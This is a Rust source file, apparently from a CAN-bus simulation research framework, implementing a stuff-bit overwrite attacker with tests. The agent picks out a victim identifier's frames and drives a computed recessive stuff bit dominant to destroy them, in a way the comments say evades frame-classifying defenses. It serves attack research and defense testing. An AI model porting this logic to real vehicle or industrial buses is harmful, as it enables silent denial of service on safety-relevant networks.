//! Stuff-bit overwrite attacker (CANflict peripheral-conflict family).
//!
//! Bit stuffing keeps CAN receivers synchronized: after five equal bits
//! the transmitter inserts the opposite level, guaranteeing an edge. A
//! recessive stuff bit is undriven — so an attacker with raw bus access
//! can pull it dominant, turning the transmitter's own synchronization
//! aid into a six-bit run. Every receiver sees a stuff error at once, the
//! transmitter sees a bit error (TEC +8), and the frame dies — without
//! the attacker ever forming a frame a defense could classify.
//!
//! [`StuffBitOverwrite`] computes upcoming stuff bits with the shared
//! [`FrameWatch`] destuffer and strikes the `skip`-th *recessive* stuff
//! bit of every frame carrying the victim identifier. (Dominant stuff
//! bits cannot be overwritten on a wired-AND bus.)

use can_core::agent::BitAgent;
use can_core::watch::{WatchEvent, WatchTrigger, ID_COMPLETE_CNT};
use can_core::{BitInstant, CanId, Level};
use can_obs::{Journal, JournalKind};

use crate::victim::VictimWatch;

/// A bit-level attacker that overwrites a computed recessive stuff bit
/// of the victim's frames with a dominant level.
#[derive(Debug, Clone)]
pub struct StuffBitOverwrite {
    /// Overwritable (recessive) stuff bits to let pass per frame before
    /// striking; `0` hits the first one after arbitration.
    skip: u32,
    front: VictimWatch,
    /// Overwritable stuff bits let pass in the armed frame so far.
    skipped: u32,
    injecting: bool,
    strikes: u64,
}

impl StuffBitOverwrite {
    /// Creates an attacker that overwrites the `skip`-th recessive stuff
    /// bit (counting from the end of arbitration) of every `victim` frame.
    pub fn new(victim: CanId, skip: u32) -> Self {
        StuffBitOverwrite {
            skip,
            front: VictimWatch::new(victim),
            skipped: 0,
            injecting: false,
            strikes: 0,
        }
    }

    /// Frames destroyed by an overwritten stuff bit so far.
    pub fn strikes(&self) -> u64 {
        self.strikes
    }

    /// Attaches a causal event journal; `node` is the index stamped on
    /// [`JournalKind::Strike`] events, which join the attacked frame's causal chain.
    pub fn set_journal(&mut self, journal: Journal, node: u32) {
        self.front.set_journal(journal, node);
    }
}

impl BitAgent for StuffBitOverwrite {
    fn on_bit(&mut self, level: Level, now: BitInstant) {
        let struck = self.injecting;
        self.injecting = false;
        let (event, _) = self.front.push(level);
        // Our own dominant drive lands as a six-bit run; a violation from
        // any other cause also kills the frame.
        if struck && matches!(event, WatchEvent::Violation(_)) {
            self.strikes += 1;
        }
        if !self.front.armed() {
            self.skipped = 0;
            return;
        }
        // The next wire bit is an undriven recessive stuff bit: the only
        // moment the attack works. Decide now; the drive lands next bit.
        if self.front.watch().expecting_recessive_stuff() {
            if self.skipped >= self.skip {
                self.injecting = true;
                self.front.event(
                    now,
                    JournalKind::Strike,
                    format_args!("stuff-overwrite skip={}", self.skip),
                );
            } else {
                self.skipped += 1;
            }
        }
    }

    fn tx_level(&self) -> Option<Level> {
        self.injecting.then_some(Level::Dominant)
    }

    fn next_activity(&self, now: BitInstant) -> Option<BitInstant> {
        self.front.next_activity(now, self.injecting)
    }

    fn drive_horizon(&self, now: BitInstant) -> Option<BitInstant> {
        // Unarmed, no strike comes before a frame's identifier completes
        // at `cnt == 12`; armed, the next recessive stuff bit may be it.
        let trigger = if self.front.armed() {
            WatchTrigger::RecessiveStuff
        } else {
            WatchTrigger::Cnt(ID_COMPLETE_CNT)
        };
        self.front.drive_horizon(now, self.injecting, trigger)
    }

    fn skip_idle(&mut self, bits: u64, _from: BitInstant) {
        self.front.skip_idle(bits, self.injecting);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use can_core::bitstream::stuff_frame;
    use can_core::{BitDuration, CanFrame};

    /// Feeds idle bits then a frame, modelling the wired-AND: while the
    /// attacker drives dominant, the bus reads dominant. Returns the wire
    /// indices at which the attacker drove.
    fn feed_frame(attacker: &mut StuffBitOverwrite, frame: &CanFrame) -> Vec<usize> {
        let mut t = 0u64;
        for _ in 0..12 {
            attacker.on_bit(Level::Recessive, BitInstant::from_bits(t));
            t += 1;
        }
        let wire = stuff_frame(frame);
        let mut driven = Vec::new();
        for (i, &bit) in wire.bits.iter().enumerate() {
            let seen = if attacker.tx_level() == Some(Level::Dominant) {
                driven.push(i);
                Level::Dominant
            } else {
                bit
            };
            attacker.on_bit(seen, BitInstant::from_bits(t));
            t += 1;
        }
        driven
    }

    #[test]
    fn overwrites_a_recessive_stuff_bit_of_the_victim() {
        // ID 0x000: SOF + dominant run forces a recessive stuff bit at
        // wire position 5.
        let mut attacker = StuffBitOverwrite::new(CanId::from_raw(0x000), 0);
        let victim = CanFrame::data_frame(CanId::from_raw(0x000), &[]).unwrap();
        let wire = stuff_frame(&victim);
        let driven = feed_frame(&mut attacker, &victim);
        assert_eq!(driven.len(), 1, "exactly one bit driven per frame");
        let at = driven[0];
        assert!(wire.stuff_positions.contains(&at), "wire index {at}");
        assert_eq!(wire.bits[at], Level::Recessive);
        assert_eq!(attacker.strikes(), 1);
    }

    #[test]
    fn skip_selects_a_later_stuff_bit() {
        let victim = CanFrame::data_frame(CanId::from_raw(0x000), &[]).unwrap();
        let wire = stuff_frame(&victim);
        let mut first = StuffBitOverwrite::new(CanId::from_raw(0x000), 0);
        let mut second = StuffBitOverwrite::new(CanId::from_raw(0x000), 1);
        let a = feed_frame(&mut first, &victim);
        let b = feed_frame(&mut second, &victim);
        assert!(b[0] > a[0], "skip=1 strikes later: {a:?} vs {b:?}");
        assert!(wire.stuff_positions.contains(&b[0]));
        assert_eq!(wire.bits[b[0]], Level::Recessive);
    }

    #[test]
    fn ignores_bystander_frames() {
        let mut attacker = StuffBitOverwrite::new(CanId::from_raw(0x000), 0);
        let bystander = CanFrame::data_frame(CanId::from_raw(0x001), &[]).unwrap();
        assert!(feed_frame(&mut attacker, &bystander).is_empty());
        assert_eq!(attacker.strikes(), 0);
    }

    #[test]
    fn quiescent_on_an_idle_bus() {
        let attacker = StuffBitOverwrite::new(CanId::from_raw(0x173), 0);
        assert_eq!(attacker.next_activity(BitInstant::ZERO), None);
        // 11 recessive bits arm the hunt; the SOF plus 11 identifier bits
        // complete the identifier the strike needs.
        assert_eq!(
            attacker.drive_horizon(BitInstant::ZERO),
            Some(BitInstant::ZERO + BitDuration::bits(23))
        );
    }

    #[test]
    fn skip_idle_matches_bitwise_replay() {
        let victim = CanFrame::data_frame(CanId::from_raw(0x000), &[0xFF]).unwrap();
        let mut skipped = StuffBitOverwrite::new(CanId::from_raw(0x000), 0);
        let mut replayed = skipped.clone();
        skipped.skip_idle(300, BitInstant::ZERO);
        for i in 0..300 {
            replayed.on_bit(Level::Recessive, BitInstant::from_bits(i));
        }
        assert_eq!(
            feed_frame(&mut skipped, &victim),
            feed_frame(&mut replayed, &victim)
        );
    }
}
